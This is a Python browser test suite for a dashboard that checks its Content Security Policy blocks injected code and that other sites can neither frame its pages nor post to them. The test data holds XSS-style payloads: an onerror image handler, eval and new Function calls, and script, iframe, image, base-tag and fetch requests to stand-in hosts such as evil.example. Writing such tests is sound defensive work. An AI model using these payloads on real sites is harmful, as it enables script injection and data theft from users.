"""What a page may do in a real browser: its own work, and nothing that got into it from elsewhere."""

import json

import pytest

from dashboard.access.requests import CALLBACK
from tests.browser.conftest import Visit

PAGE = "/?role=principal&as=99002"


def violations(visit: Visit, script: str) -> list[str]:
    """What the browser refused while a script of the test ran."""
    visit.page.evaluate(
        "window.refused = []; document.addEventListener('securitypolicyviolation',"
        " (event) => { window.refused.push(event.effectiveDirective); });"
    )
    # On the page's own time: what the test says at once, the browser lets pass.
    visit.page.evaluate(
        f"setTimeout(() => {{ try {{ {script} }} catch (error) {{ window.caught = String(error); }} }}, 0)"
    )
    visit.page.wait_for_timeout(200)
    found: list[str] = visit.page.evaluate("window.refused")
    return found


@pytest.mark.parametrize(
    ("script", "directive"),
    [
        (
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
            "script-src-attr",
        ),
        (
            "const s = document.createElement('script'); s.text = 'window.ran = 1'; document.body.append(s)",
            "",
        ),
        ("eval('window.ran = 1')", "require-trusted-types-for"),
        ("setTimeout('window.ran = 1')", "require-trusted-types-for"),
        ("new Function('window.ran = 1')()", "require-trusted-types-for"),
        (
            "document.body.append(Object.assign(document.createElement('script'), {src: '//evil.test/'}))",
            "",
        ),
        ("document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')", "style-src-attr"),
        (
            "document.body.insertAdjacentHTML('beforeend', '<style>p { color: red }</style>')",
            "style-src-elem",
        ),
        (
            "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.example\"></iframe>')",
            "frame-src",
        ),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/?q\">')", "img-src"),
        (
            "document.body.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
            "base-uri",
        ),
        ("fetch('https://evil.example/?q').catch(() => {})", "connect-src"),
    ],
)
def test_what_was_slipped_into_a_page_does_not_run_and_reaches_nobody(
    visit: Visit, script: str, directive: str
) -> None:
    visit.open("/method")
    refused = violations(visit, script)
    assert visit.page.evaluate("window.ran") is None
    assert refused or visit.page.evaluate("window.caught")
    if directive:
        assert {each.removesuffix("-elem") for each in refused} & {directive, directive.removesuffix("-elem")}


def test_what_the_server_measured_is_drawn_though_no_markup_may_style(visit: Visit) -> None:
    visit.open(PAGE)
    parts = visit.page.locator("[data-style]")
    assert parts.count() > 5
    assert visit.page.evaluate(
        "[...document.querySelectorAll('[data-style]')].every((e) => e.style.length > 0)"
    )
    assert visit.page.evaluate(
        "[...document.querySelectorAll('.bar')].some((e) => e.getBoundingClientRect().width > 10)"
    )


def test_charts_have_the_rules_their_library_may_not_write(visit: Visit) -> None:
    visit.open("/")
    assert visit.page.evaluate("getComputedStyle(document.querySelector('.main-svg')).position") == "absolute"
    bold = visit.page.evaluate(
        "[...document.querySelectorAll('.chart tspan')].filter((e) => e.style.fontWeight === 'bold').length"
    )
    assert bold > 0
    assert visit.complaints == []


def test_another_site_can_neither_frame_a_page_nor_post_to_it(visit: Visit, address: str) -> None:
    visit.page.route(
        "http://other.localhost/**", lambda route: route.fulfill(body="<p>", content_type="text/html")
    )
    visit.page.goto("http://other.localhost/")
    posted = visit.page.evaluate(
        f"fetch('{address}{CALLBACK}', {{method: 'POST', mode: 'no-cors', body: '{{}}'}})"
        ".then((answer) => answer.type, (error) => String(error))"
    )
    assert posted == "TypeError: Failed to fetch"
    with visit.page.expect_response(lambda answer: answer.url.endswith(CALLBACK)) as answered:
        visit.page.evaluate(
            f"const f = document.createElement('form'); f.method = 'post'; f.action = '{address}{CALLBACK}';"
            " document.body.append(f); f.submit()"
        )
    assert answered.value.status == 403
    visit.page.wait_for_url(address + CALLBACK)
    visit.page.goto("http://other.localhost/")
    visit.page.evaluate(f"document.body.innerHTML = '<iframe src=\"{address}/\"></iframe>'")
    visit.page.wait_for_timeout(500)
    assert [frame.url for frame in visit.page.frames[1:]] == ["chrome-error://chromewebdata/"]


def test_a_page_that_is_held_back_says_so_and_comes_by_itself(visit: Visit) -> None:
    words = {
        "title": "Mange forespørsler på kort tid",
        "text": "Serveren venter litt.",
        "do": "Prøv igjen om 1 s.",
    }
    asked: list[str] = []

    def hold_back(route: object) -> None:
        asked.append("")
        if len(asked) > 2:
            route.continue_()  # type: ignore[attr-defined]
        else:
            headers = {"Retry-After": "1", "Content-Type": "application/json"}
            route.fulfill(status=429, headers=headers, body=json.dumps(words))  # type: ignore[attr-defined]

    visit.page.route(f"**{CALLBACK}*", hold_back)
    visit.page.goto(visit.address + "/")
    visit.until("document.querySelector('#refused') !== null")
    assert visit.text("#refused").startswith("Mange forespørsler")
    assert visit.page.locator("#refused").get_attribute("role") == "status"
    visit.settled()
    assert len(asked) >= 3
    assert visit.page.locator("#refused").count() == 0


@pytest.mark.parametrize("language", ["nb", "nn", "en"])
def test_a_file_that_is_not_there_is_a_page_in_the_house_style(visit: Visit, language: str) -> None:
    visit.page.goto(f"{visit.address}/export/nothing.csv?lang={language}")
    assert visit.page.evaluate("document.documentElement.lang") == language
    assert visit.page.locator("main h1").is_visible()
    assert "Source Sans" in visit.page.evaluate("getComputedStyle(document.body).fontFamily")
    assert [c for c in visit.complaints if "404" not in c] == []
